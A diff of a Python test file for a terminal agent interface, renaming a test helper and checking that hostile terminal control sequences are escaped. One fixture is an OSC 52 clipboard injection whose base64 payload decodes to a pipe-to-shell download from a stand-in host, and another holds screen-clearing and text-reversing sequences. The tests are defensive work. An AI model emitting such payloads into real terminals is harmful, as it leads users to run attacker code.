@@ -25,28 +25,28 @@ from refold.values.messages import ToolCall
 from refold.views.escape import Visible, visible
 from refold.views.questions import CallToApprove, permission_question
 from refold.views.styled import plain_text
-from tests.terminal.test_conversation import Evening
+from tests.terminal.test_conversation import ScriptedTerminal
 
 ORDERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]|\x1b")
 CLIPBOARD = "ok\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\adone"
 MOVES = "safe text\rEVIL\x9b2J\b\b\bx\x0e\x7f\u202e\u200bend"
 TOOLS = {tool.name: tool for tool in builtin()}
-Evenings = Callable[..., Evening]
+OpenScriptedTerminal = Callable[..., ScriptedTerminal]
 
 
 @pytest.fixture
-def evening(tmp_path: Path) -> Evenings:
-    return lambda *lines, **more: Evening(tmp_path, *lines, **more)
+def scripted_terminal(tmp_path: Path) -> OpenScriptedTerminal:
+    return lambda *lines, **more: ScriptedTerminal(tmp_path, *lines, **more)
 
 
 @pytest.mark.parametrize("hostile", [CLIPBOARD, MOVES])
 def test_control_sequences_in_files_responses_names_and_reasons_are_escaped(
-    evening: Evenings, tmp_path: Path, hostile: str
+    scripted_terminal: OpenScriptedTerminal, tmp_path: Path, hostile: str
 ) -> None:
     (tmp_path / "evil.txt").write_text(hostile, encoding="utf-8")
     data = {"questions": [{"question": hostile, "options": [{"label": hostile}]}]}
     plan = {"plan": f"# {hostile}\n{hostile}", "title": hostile}
-    tonight = evening(
+    terminal = scripted_terminal(
         Reply(hostile, (("bash", '{"command": "cat evil.txt"}'),), hostile),
         [("read_file", '{"path": "evil.txt"}')],
         [("write_file", msgspec.json.encode({"path": "x", "content": hostile}).decode())],
@@ -57,9 +57,11 @@ def test_control_sequences_in_files_responses_names_and_reasons_are_escaped(
         hostile,
     )
 
-    tonight.tell("go", "n", hostile, "1", "n", hostile, "f", hostile, "/plan list", hostile)
+    terminal.tell(
+        "go", "n", hostile, "1", "n", hostile, "f", hostile, "/plan list", hostile
+    )
 
-    out = tonight.out.getvalue()
+    out = terminal.out.getvalue()
     assert ORDERS.findall(out) == []
     placeholder = r"\x1b]52" if hostile == CLIPBOARD else r"safe text\rEVIL\x9b2J"
     assert out.count(placeholder) >= 6
@@ -78,23 +80,23 @@ def test_hostile_text_streamed_by_single_characters_is_escaped_the_same(
 
 
 def test_lone_surrogates_are_never_printed_stored_or_sent(
-    evening: Evenings, tmp_path: Path
+    scripted_terminal: OpenScriptedTerminal, tmp_path: Path
 ) -> None:
     (tmp_path / "cut.txt").write_bytes(b"\xff\xfe\x00\xc3(\xed\xa0\x80\xf0\x9f\x98\n")
     lone = '{"command": "echo \\ud83d"}'
-    tonight = evening(
+    terminal = scripted_terminal(
         [("bash", '{"command": "cat cut.txt"}')], [("bash", lone)], "Half: \ud83d!", "More."
     )
 
-    tonight.tell("go \ud83d", "n", "\ud83d", "and")
-    rows = tonight.tell("again")
+    terminal.tell("go \ud83d", "n", "\ud83d", "and")
+    rows = terminal.tell("again")
 
-    assert ORDERS.findall(tonight.out.getvalue()) == []
-    tonight.out.getvalue().encode()
-    for line in tonight.store.lines:
+    assert ORDERS.findall(terminal.out.getvalue()) == []
+    terminal.out.getvalue().encode()
+    for line in terminal.store.lines:
         json.dumps(json.loads(line), ensure_ascii=False).encode()
-    assert len(list(codec.decode(tonight.store.lines))) == len(tonight.store.lines)
-    provider: Any = tonight.provider
+    assert len(list(codec.decode(terminal.store.lines))) == len(terminal.store.lines)
+    provider: Any = terminal.provider
     assert isinstance(provider, ScriptedProvider)
     for request in provider.heard:
         assert_sendable(request)
@@ -185,14 +187,14 @@ def test_control_sequences_in_markdown_are_escaped(
     ],
 )
 def test_control_sequences_in_markdown_are_escaped_with_colours_and_links(
-    evening: Evenings, said: str
+    scripted_terminal: OpenScriptedTerminal, said: str
 ) -> None:
-    tonight = evening(said)
+    terminal = scripted_terminal(said)
     look = TerminalCapabilities(color=True, moves=True, links=True, room=lambda: 80)
-    tonight.paper = Printer(tonight.out, look)
+    terminal.paper = Printer(terminal.out, look)
 
-    tonight.tell("go")
+    terminal.tell("go")
 
-    left = OURS.sub("", tonight.out.getvalue())
+    left = OURS.sub("", terminal.out.getvalue())
     assert ANY_ORDER.findall(left) == []
     assert "\x1b" not in left
